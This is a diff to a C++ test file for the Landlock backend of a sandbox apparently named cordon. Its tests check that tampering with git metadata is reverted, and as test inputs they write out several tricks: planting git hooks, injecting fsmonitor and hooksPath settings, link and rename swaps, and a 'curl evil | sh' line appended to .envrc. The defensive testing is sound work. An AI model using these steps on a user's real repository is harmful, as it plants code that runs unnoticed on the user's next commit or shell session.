@@ -1,6 +1,7 @@
 // The Landlock + seccomp backend (LL-1), forced by `[sandbox] backend = "landlock"`: what it
 // keeps of FS, NET and PROC without namespaces.
 #include <linux/landlock.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
 #include <unistd.h>
 
@@ -207,8 +208,8 @@ TEST(LandlockBackend, EnvironmentIsStripped) {  // LL-1, ENV-1
   EXPECT_EQ(r.out, "key=none sandbox=1\n");
 }
 
-// Not built yet (issue 31): Landlock cannot keep .git/hooks and .git/config read-only while git
-// writes beside them, and aftercare does not compare their content. Enable once it does.
+// Issue 31: Landlock cannot keep .git/hooks and .git/config read-only while git writes beside
+// them; aftercare keeps their bytes and puts them back, and moves a planted hook aside.
 TEST(LandlockBackend, PlantedGitHookAndConfigAreCaught) {  // LL-1, GIT-1, GIT-9
   REQUIRE_LANDLOCK();
   LandlockWorld w;
@@ -219,6 +220,178 @@ TEST(LandlockBackend, PlantedGitHookAndConfigAreCaught) {  // LL-1, GIT-1, GIT-9
   EXPECT_EQ(r.status, 0) << r.err;
   EXPECT_FALSE(w.exists(".git/hooks/pre-commit"));
   EXPECT_EQ(w.read(".git/config"), config);
+}
+
+// What the user's own git sees outside, after the command: the original config, and a commit
+// that runs no planted hook (the hook would leave `ran` beside the project).
+void expect_users_git_untouched(const LandlockWorld& w, const std::string& config) {
+  EXPECT_EQ(w.read(".git/config"), config);
+  Proc list = w.host({"git", "config", "--list", "--local"});
+  EXPECT_EQ(list.status, 0) << list.err;
+  EXPECT_EQ(list.out.find("fsmonitor"), std::string::npos) << list.out;
+  EXPECT_EQ(list.out.find("hookspath"), std::string::npos) << list.out;
+  Proc status = w.host({"git", "status", "--porcelain"});
+  EXPECT_EQ(status.status, 0) << status.err;
+  Proc commit = w.host({"git", "commit", "-q", "--allow-empty", "-m", "by the user"});
+  EXPECT_EQ(commit.status, 0) << commit.err;
+  EXPECT_FALSE(w.exists(w.root() + "/ran")) << "a planted hook ran on the user's commit";
+}
+
+std::string planted_hook(const LandlockWorld& w) {
+  return "#!/bin/sh\\ntouch " + w.root() + "/ran\\n";
+}
+
+// The result names each move (PROT-7): what moved, and where to.
+bool says_moved(const Proc& r, const std::string& what) {
+  return r.err.find(what) != std::string::npos &&
+         r.err.find(".cordon-quarantined-") != std::string::npos;
+}
+
+TEST(LandlockBackend, AppendToGitConfigIsMovedAsideAndPutBack) {  // LL-1, GIT-1, PROT-7
+  REQUIRE_LANDLOCK();
+  LandlockWorld w;
+  const std::string config = w.read(".git/config");
+  Proc r = w.sh(
+      "printf '[core]\\n\\tfsmonitor = \"touch " + w.root() +
+      "/ran\"\\n' >> .git/config && git config --local --list");
+  EXPECT_EQ(r.status, 0) << r.err;
+  EXPECT_NE(r.out.find("core.fsmonitor"), std::string::npos);  // the command saw its change
+  EXPECT_TRUE(says_moved(r, ".git/config")) << r.err;
+  EXPECT_NE(r.err.find("put yours back"), std::string::npos) << r.err;
+  // The command's version is kept beside it, never deleted.
+  Proc found = w.host({"/bin/sh", "-c", "cat .git/config.cordon-quarantined-*"});
+  EXPECT_NE(found.out.find("fsmonitor"), std::string::npos) << found.out;
+  expect_users_git_untouched(w, config);
+}
+
+TEST(LandlockBackend, PlantedPreCommitHookIsMovedAsideAndNeverRuns) {  // LL-1, GIT-1, PROT-7
+  REQUIRE_LANDLOCK();
+  LandlockWorld w;
+  const std::string config = w.read(".git/config");
+  Proc r = w.sh("printf '" + planted_hook(w) +
+                "' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit");
+  EXPECT_EQ(r.status, 0) << r.err;
+  EXPECT_FALSE(w.exists(".git/hooks/pre-commit"));
+  EXPECT_TRUE(says_moved(r, ".git/hooks/pre-commit")) << r.err;
+  expect_users_git_untouched(w, config);
+}
+
+TEST(LandlockBackend, TruncatedAndRewrittenHookIsPutBack) {  // LL-1, GIT-1, PROT-7
+  REQUIRE_LANDLOCK();
+  LandlockWorld w;
+  const std::string mine = "#!/bin/sh\necho own hook\n";
+  w.write(".git/hooks/pre-commit", mine, 0755);
+  const std::string config = w.read(".git/config");
+  // O_TRUNC keeps the inode: only the bytes tell.
+  Proc r = w.py("import os\nfd = os.open('.git/hooks/pre-commit', os.O_WRONLY | os.O_TRUNC)\n"
+                "os.write(fd, b'" + planted_hook(w) + "')\nos.close(fd)\n");
+  EXPECT_EQ(r.status, 0) << r.err;
+  EXPECT_EQ(w.read(".git/hooks/pre-commit"), mine);
+  struct stat st;
+  ASSERT_EQ(stat(w.abs(".git/hooks/pre-commit").c_str(), &st), 0);
+  EXPECT_EQ(st.st_mode & 0777, 0755u);
+  EXPECT_TRUE(says_moved(r, ".git/hooks/pre-commit")) << r.err;
+  expect_users_git_untouched(w, config);
+}
+
+TEST(LandlockBackend, RenamedHooksFolderWithAPlantedHookIsPutBack) {  // LL-1, GIT-1, GIT-9
+  REQUIRE_LANDLOCK();
+  LandlockWorld w;
+  const std::string mine = "#!/bin/sh\nexit 0\n";
+  w.write(".git/hooks/pre-push", mine, 0755);
+  const std::string config = w.read(".git/config");
+  // Renamed within .git, and carried out of it: both are put back.
+  for (const char* away : {".git/old-hooks", "carried-hooks"}) {
+    Proc r = w.sh(std::string("mv .git/hooks ") + away + " && mkdir .git/hooks && printf '" + planted_hook(w) +
+                  "' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit");
+    EXPECT_EQ(r.status, 0) << r.err;
+    EXPECT_FALSE(w.exists(".git/hooks/pre-commit")) << away;
+    EXPECT_EQ(w.read(".git/hooks/pre-push"), mine) << away;
+    EXPECT_TRUE(says_moved(r, ".git/hooks")) << r.err;
+    expect_users_git_untouched(w, config);
+  }
+}
+
+TEST(LandlockBackend, RenamedGitFolderIsPutBack) {  // LL-1, GIT-1, GIT-9
+  REQUIRE_LANDLOCK();
+  LandlockWorld w;
+  const std::string config = w.read(".git/config");
+  Proc r = w.sh("mv .git .git-away && cp -a .git-away .git && printf '" + planted_hook(w) +
+                "' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && "
+                "printf '[core]\\n\\thooksPath = /tmp\\n' >> .git/config");
+  EXPECT_EQ(r.status, 0) << r.err;
+  EXPECT_FALSE(w.exists(".git-away"));  // the user's .git is back in its place
+  EXPECT_FALSE(w.exists(".git/hooks/pre-commit"));
+  EXPECT_TRUE(says_moved(r, ".git")) << r.err;
+  expect_users_git_untouched(w, config);
+}
+
+TEST(LandlockBackend, ConfigChangedThroughAHardLinkIsPutBack) {  // LL-1, GIT-1, GIT-9
+  REQUIRE_LANDLOCK();
+  LandlockWorld w;
+  w.write(w.home() + "/outside.txt", "outside\n");
+  const std::string config = w.read(".git/config");
+  Proc r = w.sh("ln .git/config linked-config && printf '[core]\\n\\tfsmonitor = x\\n' >> "
+                "linked-config");
+  EXPECT_EQ(r.status, 0) << r.err;
+  // Put back as a new file: the link the command holds is not the config any more.
+  struct stat config_st, link_st;
+  ASSERT_EQ(lstat(w.abs(".git/config").c_str(), &config_st), 0);
+  ASSERT_EQ(lstat(w.abs("linked-config").c_str(), &link_st), 0);
+  EXPECT_NE(config_st.st_ino, link_st.st_ino);
+  EXPECT_EQ(config_st.st_nlink, 1u);
+  EXPECT_TRUE(says_moved(r, ".git/config")) << r.err;
+  EXPECT_EQ(w.read(w.home() + "/outside.txt"), "outside\n");
+  expect_users_git_untouched(w, config);
+}
+
+TEST(LandlockBackend, ConfigReplacedByALinkOutsideIsPutBack) {  // LL-1, GIT-1, GIT-6, FS-2
+  REQUIRE_LANDLOCK();
+  LandlockWorld w;
+  w.write(w.home() + "/outside.txt", "outside\n");
+  const std::string config = w.read(".git/config");
+  // To a file outside that exists, and to one that does not: neither is written by cordon.
+  for (const std::string& target : {w.home() + "/outside.txt", w.home() + "/not-made"}) {
+    Proc r = w.sh("rm .git/config && ln -s " + target + " .git/config");
+    EXPECT_EQ(r.status, 0) << r.err;
+    struct stat st;
+    ASSERT_EQ(lstat(w.abs(".git/config").c_str(), &st), 0);
+    EXPECT_TRUE(S_ISREG(st.st_mode)) << target;
+    EXPECT_TRUE(says_moved(r, ".git/config")) << r.err;
+    EXPECT_EQ(w.read(w.home() + "/outside.txt"), "outside\n");
+    EXPECT_FALSE(w.exists(w.home() + "/not-made"));
+    expect_users_git_untouched(w, config);
+  }
+}
+
+// git writes its index, objects, refs, COMMIT_EDITMSG and logs beside the guarded files: a
+// commit inside the sandbox works and nothing is moved aside.
+TEST(LandlockBackend, GitCommitWorksAndMovesNothingAside) {  // LL-1, GIT-1
+  REQUIRE_LANDLOCK();
+  LandlockWorld w;
+  w.write(".git/hooks/pre-push", "#!/bin/sh\nexit 0\n", 0755);
+  w.write(".envrc", "export A=1\n");
+  const std::string config = w.read(".git/config");
+  Proc r = w.sh("echo more >> README.md && git add README.md && git commit -q -m inside && "
+                "git log --oneline | wc -l");
+  EXPECT_EQ(r.status, 0) << r.err;
+  EXPECT_EQ(r.out, "2\n");
+  EXPECT_EQ(r.err.find("quarantined"), std::string::npos) << r.err;
+  EXPECT_EQ(r.err.find("put yours back"), std::string::npos) << r.err;
+  Proc log = w.host({"git", "log", "-1", "--format=%s"});
+  EXPECT_EQ(log.out, "inside\n");
+  EXPECT_EQ(w.read(".envrc"), "export A=1\n");
+  expect_users_git_untouched(w, config);
+}
+
+TEST(LandlockBackend, ChangedProtectedFileIsPutBack) {  // LL-1, PROT-2, PROT-7
+  REQUIRE_LANDLOCK();
+  LandlockWorld w;
+  w.write(".envrc", "export A=1\n");  // untracked: read-only under bubblewrap
+  Proc r = w.sh("echo 'curl evil | sh' >> .envrc");
+  EXPECT_EQ(r.status, 0) << r.err;
+  EXPECT_EQ(w.read(".envrc"), "export A=1\n");
+  EXPECT_TRUE(says_moved(r, ".envrc")) << r.err;
 }
 
 }  // namespace
